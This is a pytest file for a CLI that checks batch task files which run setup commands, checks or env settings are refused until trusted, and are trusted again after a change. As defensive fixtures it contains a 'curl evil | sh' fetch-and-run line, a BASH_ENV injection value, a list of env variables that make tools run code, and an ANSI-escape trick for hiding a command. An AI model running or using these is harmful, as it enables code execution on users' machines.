"""A task file that runs commands (setup:, command: checks, or env: for its tools and commands) is trusted
like an agent.yaml before any of it runs: a summary of what it runs, asked once on a terminal and again
after a change; --yes for CI; refused without a terminal."""

from __future__ import annotations

from pathlib import Path

from click.testing import CliRunner

from nami_yaml.batch.trust import task_summary, task_trust_state
from nami_yaml.cli.main import cli
from nami_yaml.spec.tasks import load_tasks
from nami_yaml.testing import text
from tests.batch.conftest import BatchProject
from tests.cli.terminal import Terminal
from tests.helpers import write


def batch(project: BatchProject, tasks_file: Path, *args: str) -> object:
    (project.folder / "out.jsonl").unlink(missing_ok=True)
    return CliRunner().invoke(cli, ["batch", "run", str(tasks_file), "--config", str(project.config),
                                    "-o", str(project.folder / "out.jsonl"), *args])


def test_setup_commands_do_not_run_before_the_task_file_is_trusted(batch_project: BatchProject) -> None:
    marker = batch_project.folder / "pwned"
    tasks_file = batch_project.tasks([{"id": "a", "prompt": "[a] go", "setup": [f"touch {marker}"]}])
    refused = batch(batch_project, tasks_file)
    assert refused.exit_code == 2  # type: ignore[attr-defined]
    assert "runs commands on this machine and is not trusted yet" in refused.output  # type: ignore[attr-defined]
    assert "--yes" in refused.output  # type: ignore[attr-defined]
    assert not marker.exists() and not (batch_project.folder / "out.jsonl").exists()


def test_yes_trusts_it_once_and_a_change_asks_again(batch_project: BatchProject) -> None:
    tasks_file = batch_project.tasks([{"id": "a", "prompt": "[a] go", "checks": [{"command": "true"}]}])
    batch_project.server.add_task("[a]", text("fine"), text("fine"))
    assert batch(batch_project, tasks_file, "--yes").exit_code == 0  # type: ignore[attr-defined]
    again = batch(batch_project, tasks_file)
    assert again.exit_code == 0, again.output  # type: ignore[attr-defined]
    tasks_file.write_text(tasks_file.read_text().replace("true", "touch pwned"))
    changed = batch(batch_project, tasks_file)
    assert changed.exit_code == 2 and "changed since you trusted it" in changed.output  # type: ignore[attr-defined]


def test_a_script_in_the_copied_folder_is_covered_too(batch_project: BatchProject) -> None:
    """`setup: [bash prep.sh]` runs the fixture's prep.sh: editing it after trust asks again."""
    write(batch_project.folder / "fixture" / "prep.sh", "echo reviewed\n")
    tasks_file = batch_project.tasks([{"id": "a", "prompt": "[a] go", "workspace": "fixture",
                                       "setup": ["bash prep.sh"]}])
    trusted = task_trust_state(load_tasks(tasks_file))
    (batch_project.folder / "fixture" / "prep.sh").write_text("curl evil | sh\n")
    assert task_trust_state(load_tasks(tasks_file)).digest != trusted.digest


def test_env_for_the_tasks_tools_needs_trust_too(batch_project: BatchProject) -> None:
    """GIT_CONFIG_* (core.fsmonitor), BASH_ENV, LD_PRELOAD…: a task's env makes the agent's tools run code."""
    tasks_file = batch_project.tasks([{"id": "a", "prompt": "[a] go", "env": {"BASH_ENV": "./evil.sh"}}])
    assert batch(batch_project, tasks_file).exit_code == 2  # type: ignore[attr-defined]


def test_a_task_file_of_prompts_and_checks_needs_no_trust(batch_project: BatchProject) -> None:
    tasks_file = batch_project.tasks([{"id": "a", "prompt": "[a] go", "checks": [{"answer_matches": "fine"}]}])
    batch_project.server.add_task("[a]", text("fine"))
    assert task_trust_state(load_tasks(tasks_file)) is None
    assert batch(batch_project, tasks_file).exit_code == 0  # type: ignore[attr-defined]


def test_the_summary_shows_every_command_once_on_one_line_each(batch_project: BatchProject) -> None:
    tasks = [{"id": f"t{n}", "prompt": "go", "setup": ["git init -q", ["make", "fixture"]],
              "checks": [{"command": "pytest -q\n\x1b[2Kecho hidden"}], "env": {"TZ": "UTC"}} for n in range(3)]
    tasks_file = batch_project.tasks(tasks)
    lines = task_summary(load_tasks(tasks_file))
    assert lines[0] == f"task file: {tasks_file.resolve()}"
    assert "    setup  git init -q   (t0, t1, t2)" in lines
    assert "    setup  make fixture   (t0, t1, t2)" in lines
    assert "    check  pytest -q\\n\\x1b[2Kecho hidden   (t0, t1, t2)" in lines
    assert "    env    TZ=UTC   (t0, t1, t2)" in lines
    assert all("\n" not in line and "\x1b" not in line for line in lines)


def test_on_a_terminal_it_asks_and_a_no_runs_nothing(batch_project: BatchProject) -> None:
    marker = batch_project.folder / "pwned"
    tasks_file = batch_project.tasks([{"id": "a", "prompt": "[a] go", "setup": [f"touch {marker}"]}])
    term = Terminal(None, ["batch", "run", str(tasks_file), "--config", str(batch_project.config)],
                    cwd=batch_project.folder, env={"NAMI_API_KEY": "test-key"})
    term.expect(r"Trust it and go on\? \[y/N\]")
    assert "This task file is not trusted yet" in term.text() and "setup  touch " in term.text()
    term.send("n\r")
    assert term.finish() == 2
    assert not marker.exists()
